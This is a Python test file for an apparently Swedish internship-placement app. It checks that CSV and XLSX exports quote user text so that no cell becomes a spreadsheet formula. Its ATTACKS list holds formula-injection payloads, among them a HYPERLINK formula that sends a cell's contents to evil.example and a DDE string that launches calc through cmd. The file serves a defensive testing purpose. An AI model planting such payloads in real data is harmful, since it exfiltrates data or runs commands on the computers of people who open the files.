"""Formula injection: no cell of user text in any exported file is a formula.

A slot title `=HYPERLINK(…)` must reach a coordinator's spreadsheet as text. Every export (the
slot exchange in CSV and XLSX, the report exports, the audit log CSV) writes through one rule,
`marketplace.kernel.spreadsheet`; these tests read the files back the way a spreadsheet would.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from typing import Any
from xml.etree import ElementTree

import pytest

from admin.services import exports
from marketplace.kernel import spreadsheet
from marketplace.kernel.audit import record
from placements import exchange
from placements.tables import Slot
from tests.conftest import login

ATTACKS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Klicka här")',
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]
_NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def _slot_row(i: int, title: str) -> dict[str, Any]:
    return {
        "external_id": f"x-{i}",
        "host": {"name": f"Värd {i}", "kind": "company", "town": "Vårgårda"},
        "kind": "praktik",
        "title": title,
        "town": "Vårgårda",
        "capacity": 1,
        "description": title,
        "skills": [title.strip() or "x"],
        "supervisor": {"name": title, "phone": "+46 70 123 45 67"},
        "latitude": 57.9,
        "longitude": 12.8,
    }


def _is_formula_text(text: str) -> bool:
    return text.startswith(spreadsheet.FORMULA_START)


def xlsx_cells(data: bytes) -> tuple[list[list[str]], int]:
    """Every cell's text per row of the first sheet, and how many formula elements it has."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml")
        shared: list[str] = []
        if "xl/sharedStrings.xml" in book.namelist():
            root = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
            shared = ["".join(t.text or "" for t in si.iter(f"{{{_NS['m']}}}t")) for si in root]
    root = ElementTree.fromstring(sheet)
    formulas = len(root.findall(".//m:f", _NS))
    rows: list[list[str]] = []
    for row in root.findall(".//m:sheetData/m:row", _NS):
        cells = []
        for c in row.findall("m:c", _NS):
            kind = c.get("t")
            if kind == "s":
                cells.append(shared[int(c.findtext("m:v", "", _NS))])
            elif kind == "inlineStr":
                cells.append("".join(t.text or "" for t in c.iter(f"{{{_NS['m']}}}t")))
            elif kind == "str":  # the cached result of a formula
                cells.append("FORMULA:" + c.findtext("m:v", "", _NS))
            else:
                cells.append(c.findtext("m:v", "", _NS))
        rows.append(cells)
    return rows, formulas


@pytest.mark.parametrize("text", [*ATTACKS, "Lager", "", "'plain", "''=x", "-", "=", "a=b"])
def test_the_rule_quotes_formulas_and_restores_them(text):
    safe = spreadsheet.safe_text(text)
    assert not _is_formula_text(safe)
    assert spreadsheet.restore_cell(safe) == text
    if not _is_formula_text(text.lstrip("'")):
        assert safe == text  # ordinary text is left alone


async def test_slot_export_csv_and_xlsx_hold_no_formula(client, make_user):
    rows = [_slot_row(i, t) for i, t in enumerate(ATTACKS) if len(t.strip()) >= 3]
    data = "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows).encode()
    report = await exchange.import_slots(data, "jsonl")
    assert report.written, report.errors
    titles = {r["title"].strip() for r in rows}
    assert {r["title"] for r in await Slot.select(Slot.title)} == titles
    await make_user("coordinator", username="sara")
    await login(client, "sara")

    response = await client.get("/api/v1/slots/export", params={"format": "csv"})
    assert response.status_code == 200
    table = list(csv.reader(io.StringIO(response.text, newline="")))
    header, body = table[0], table[1:]
    assert len(body) == len(rows)
    for line in body:
        for name, cell in zip(header, line, strict=True):
            if name in {"latitude", "longitude", "capacity"}:
                continue
            assert not _is_formula_text(cell), (name, cell)
    first = dict(zip(header, body[0], strict=True))
    assert first["title"] == "'" + ATTACKS[0]
    assert first["supervisor.phone"] == "'+46 70 123 45 67"
    # The file imports back unchanged: the quote is the export's, not the data's.
    again = await exchange.import_slots(response.content, "csv")
    assert again.written and (again.created, again.updated) == (0, 0), again.errors
    assert {r["title"] for r in await Slot.select(Slot.title)} == titles

    xlsx = await client.get("/api/v1/slots/export", params={"format": "xlsx"})
    assert xlsx.status_code == 200
    cells, formulas = xlsx_cells(xlsx.content)
    assert formulas == 0
    title_col = cells[0].index("title")
    assert cells[1][title_col] == "'" + ATTACKS[0]
    for line in cells[1:]:
        for cell in line:
            assert not cell.startswith("FORMULA:")
            assert not _is_formula_text(cell) or re.fullmatch(r"-?[\d.]+", cell), cell


def test_report_exports_quote_text_in_every_part():
    table = exports.Table(
        title="Värdredovisning",
        definition='=HYPERLINK("https://evil.example")',
        filters=[("Värdtyp", "@SUM(1)")],
        headers=["Värd", "Placeringar"],
        rows=[[ATTACKS[0], 3], ["+SUM(1)", -2], [True, None]],
    )
    table_rows = [
        ["Värd", "Placeringar"],
        ["'" + ATTACKS[0], "3"],
        ["'+SUM(1)", "-2"],
        ["ja", ""],
    ]
    rows = list(csv.reader(io.StringIO(exports.report_csv(table)), delimiter=";"))
    # The Swedish file starts with its title rows, quoted like the table: the definition and
    # a filter's value are text a spreadsheet would otherwise run.
    assert rows == [
        ["Värdredovisning"],
        ['\'=HYPERLINK("https://evil.example")'],
        ["Värdtyp", "'@SUM(1)"],
        [],
        *table_rows,
    ]
    programs = exports.report_csv(table, "rfc4180")
    assert list(csv.reader(io.StringIO(programs))) == table_rows
    cells, formulas = xlsx_cells(exports.report_xlsx(table))
    assert formulas == 0
    text = [c for line in cells for c in line]
    assert (
        "'" + ATTACKS[0] in text
        and "'@SUM(1)" in text
        and '\'=HYPERLINK("https://evil.example")' in text
    )
    assert not any(_is_formula_text(c) for c in text if not re.fullmatch(r"-?[\d.]+", c))


async def test_audit_export_quotes_text(client, make_user):
    admin = await make_user("admin", username="alva")
    await record(None, "candidate.read", 7, detail=ATTACKS[0])
    await login(client, "alva")
    export = await client.get("/api/v1/audit/export?subject_id=7")
    assert export.status_code == 200, admin
    rows = list(
        csv.reader(io.StringIO(export.content.decode("utf-8-sig"), newline=""), delimiter=";")
    )
    assert any("'" + ATTACKS[0] in line for line in rows)
    for line in rows:
        assert not any(_is_formula_text(c) for c in line), line
